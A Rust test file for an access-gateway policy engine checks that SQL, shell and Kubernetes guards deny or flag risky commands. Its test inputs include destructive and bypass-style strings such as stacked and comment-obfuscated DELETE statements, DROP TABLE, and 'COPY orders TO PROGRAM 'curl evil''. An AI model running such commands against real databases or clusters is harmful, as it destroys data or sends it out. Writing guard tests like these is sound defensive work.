//! Policy tests: error corpus snapshots, the bundled examples, engine
//! decision tables, and no-panic robustness over garbage.

use gw_policy::{
    Command, KubeRequest, Policy, Principal, Source, Verdict, diagnostic::render_human,
};
use std::path::{Path, PathBuf};

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).to_owned()
}

fn read_dir_sources(dir: &Path) -> Vec<Source> {
    let mut sources = gw_policy::source::read_paths(&[dir.to_owned()]).expect("readable test data");
    let base = format!("{}/", root().parent().unwrap().parent().unwrap().display());
    for s in &mut sources {
        s.path = s.path.trim_start_matches(&base).to_owned();
    }
    sources
}

/// Every file under test_data/err is loaded alone and its diagnostics are
/// snapshotted: the file, line, column, caret and message of each.
#[test]
fn error_corpus() {
    let dir = root().join("test_data/err");
    let mut entries: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for path in entries {
        let name = path.file_stem().unwrap().to_string_lossy().into_owned();
        let sources = read_dir_sources(&path);
        let err = gw_policy::load(&sources).expect_err(&format!("{name} must not load"));
        insta::assert_snapshot!(format!("err_{name}"), render_human(&sources, &err));
    }
}

#[test]
fn examples_load_pass_their_tests_and_are_formatted() {
    let examples = root().join("../../policy-examples");
    for example in ["quickstart", "multi-team"] {
        let sources = read_dir_sources(&examples.join(example));
        let policy = gw_policy::load(&sources)
            .unwrap_or_else(|d| panic!("{example}:\n{}", render_human(&sources, &d)));
        let outcomes = gw_policy::run_tests(&policy);
        assert!(!outcomes.is_empty(), "{example} has no tests");
        for o in outcomes {
            assert!(
                o.passed,
                "{example}: test \"{}\" got {} by {}",
                o.case.name,
                o.decision.verdict.name(),
                o.decision.rule
            );
        }
        for s in &sources {
            assert_eq!(
                gw_policy::format(&s.text).unwrap(),
                s.text,
                "{} is not canonically formatted",
                s.path
            );
            assert!(
                s.text.starts_with("//"),
                "{} must open with a comment saying what it demonstrates",
                s.path
            );
        }
    }
}

fn multi_team() -> Policy {
    let sources = read_dir_sources(&root().join("../../policy-examples/multi-team"));
    gw_policy::load(&sources).unwrap()
}

#[track_caller]
fn check_sql(p: &Policy, groups: &[&str], resource: &str, sql: &str, verdict: Verdict, rule: &str) {
    let who = Principal::new("t@example.com", groups);
    let kind = p.resource(resource).unwrap().kind;
    let d = p.decide_command(&who, resource, &Command::sql(kind, sql));
    assert_eq!(
        (d.verdict, d.rule.name()),
        (verdict, rule),
        "{sql}: {}",
        d.reason
    );
}

#[test]
fn sql_guards_cannot_be_bypassed() {
    let p = multi_team();
    let on = ["payments-oncall"];
    check_sql(
        &p,
        &on,
        "orders-db",
        "select * from orders where id = 1",
        Verdict::Allow,
        "default-command",
    );
    check_sql(
        &p,
        &on,
        "orders-db",
        "select 1; delete from orders",
        Verdict::Deny,
        "payments-unbounded-writes",
    );
    check_sql(
        &p,
        &on,
        "orders-db",
        "/* harmless */ DeLeTe /* x */ FROM orders",
        Verdict::Deny,
        "payments-unbounded-writes",
    );
    check_sql(
        &p,
        &on,
        "orders-db",
        "select 'delete from orders'",
        Verdict::Allow,
        "default-command",
    );
    check_sql(
        &p,
        &on,
        "orders-db",
        "explain analyze delete from orders",
        Verdict::Deny,
        "payments-unbounded-writes",
    );
    check_sql(
        &p,
        &on,
        "orders-db",
        "UPDATE \"Payments\" SET x = 1 WHERE id = 2",
        Verdict::Review,
        "money-writes",
    );
    check_sql(
        &p,
        &on,
        "orders-db",
        "update invoices set x = 1 where id = 2",
        Verdict::Review,
        "money-writes",
    );
    check_sql(
        &p,
        &on,
        "orders-db",
        "select pg_terminate_backend(42)",
        Verdict::Review,
        "dba-exempt-from-terminate",
    );
    check_sql(
        &p,
        &["dba", "payments-oncall"],
        "orders-db",
        "select pg_terminate_backend(42)",
        Verdict::Allow,
        "default-command",
    );
    check_sql(
        &p,
        &on,
        "orders-db",
        "COPY orders TO PROGRAM 'curl evil'",
        Verdict::Deny,
        "no-dynamic-sql",
    );
}

#[test]
fn unparsable_sql_gets_the_strictest_guard_that_could_apply() {
    let p = multi_team();
    // The strictest guard on orders-db is a deny, so garbage is denied.
    check_sql(
        &p,
        &["payments-oncall"],
        "orders-db",
        "DROP TABLE orders; garbage (((",
        Verdict::Deny,
        "no-dynamic-sql",
    );
}

#[test]
fn no_policy_denies_everything() {
    let p = Policy::deny_all("the policy repository has no valid revision");
    let who = Principal::new("root@example.com", &["sre", "dba"]);
    let s = p.decide_session(&who, "orders-db", 0);
    assert_eq!(
        (s.decision.verdict, s.decision.rule.name()),
        (Verdict::Deny, "no-policy")
    );
    assert!(s.terms.is_none());
    let d = p.decide_command(
        &who,
        "orders-db",
        &Command::Shell {
            command: "true".into(),
        },
    );
    assert_eq!(d.verdict, Verdict::Deny);
}

#[test]
fn sessions_carry_terms_from_their_grant() {
    let p = multi_team();
    let lead = Principal::new("l@example.com", &["sre", "sre-leads"]);
    let s = p.decide_session(&lead, "web-1", 1000);
    assert_eq!(s.decision.verdict, Verdict::Allow);
    let t = s.terms.unwrap();
    assert_eq!(t.ends_at, 1000 + 8 * 3600, "the longest grant wins");
    assert_eq!(
        t.extras.iter().map(|e| e.name()).collect::<Vec<_>>(),
        ["port-forward", "agent-forward"]
    );
    let sre = Principal::new("s@example.com", &["sre"]);
    assert!(
        p.decide_session(&sre, "web-1", 0)
            .terms
            .unwrap()
            .extras
            .is_empty(),
        "forwarding is off unless granted"
    );
    let prod = p.resource("orders-db").unwrap();
    assert_eq!(
        p.recording_terms(prod).on_failure,
        gw_policy::OnFailure::Terminate
    );
}

#[test]
fn kubernetes_namespace_deletion_is_guarded_by_its_name() {
    let p = multi_team();
    let who = Principal::new("p@example.com", &["platform"]);
    let req = |verb: &str, resource: &str, ns: Option<&str>, name: Option<&str>| {
        Command::Kubernetes(KubeRequest {
            verb: verb.into(),
            resource: resource.into(),
            subresource: None,
            namespace: ns.map(Into::into),
            name: name.map(Into::into),
        })
    };
    let d = p.decide_command(
        &who,
        "prod-cluster",
        &req("delete", "namespaces", None, Some("kube-system")),
    );
    assert_eq!(
        (d.verdict, d.rule.name()),
        (Verdict::Deny, "k8s-system-namespaces")
    );
    let d = p.decide_command(
        &who,
        "prod-cluster",
        &req("delete", "deployments.apps", Some("checkout"), Some("api")),
    );
    assert_eq!(
        (d.verdict, d.rule.name()),
        (Verdict::Review, "k8s-destructive")
    );
}

/// Garbage, and mutations of real policies, never panic the loader.
#[test]
fn garbage_never_panics() {
    let seed_text =
        std::fs::read_to_string(root().join("../../policy-examples/quickstart/policy.kdl"))
            .unwrap();
    let mut rng = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = move || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    for round in 0..400 {
        let mut bytes = seed_text.as_bytes().to_vec();
        for _ in 0..(1 + next() % 8) {
            let at = (next() as usize) % bytes.len();
            match next() % 3 {
                0 => bytes[at] = next() as u8,
                1 => {
                    bytes.remove(at);
                }
                _ => bytes.insert(at, b"{}\"=#;/*\n"[(next() % 9) as usize]),
            }
        }
        if round % 10 == 0 {
            bytes = (0..(next() % 300)).map(|_| next() as u8).collect();
        }
        gw_policy::fuzz_load(&bytes);
    }
}

#[test]
fn a_new_service_account_is_a_loosening_in_the_diff() {
    let base = "resource \"db\" kind=\"postgres\" {\n    address \"h:5432\"\n}\ngrant \"g\" {\n    groups \"deployers\"\n    resources \"db\"\n}\n";
    let hash = "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    let with = format!(
        "{base}service-account \"ci\" {{\n    groups \"deployers\"\n    secret-hash \"{hash}\"\n}}\nbreak-glass \"emergency\" {{\n    groups \"dba\"\n    secret-hash \"{hash}\"\n}}\n"
    );
    let old = gw_policy::load(&[Source::new("a.kdl", base)]).unwrap();
    let new = gw_policy::load(&[Source::new("a.kdl", with.as_str())]).unwrap();
    assert_eq!(new.accounts[0].subject(), "service-account:ci");
    assert_eq!(new.accounts[1].subject(), "break-glass:emergency");
    let changes = gw_policy::diff(&old, &new);
    let texts: Vec<String> = changes
        .iter()
        .map(|c| format!("{:?} {}", c.direction, c.text))
        .collect();
    assert!(
        texts.contains(&"Loosened service-account \"ci\" added (groups: deployers)".to_owned()),
        "{texts:?}"
    );
    assert!(
        texts.contains(&"Loosened break-glass \"emergency\" added (groups: dba)".to_owned()),
        "{texts:?}"
    );
    let back = gw_policy::diff(&new, &old);
    assert!(
        back.iter()
            .all(|c| c.direction == gw_policy::Direction::Tightened),
        "{back:?}"
    );
}
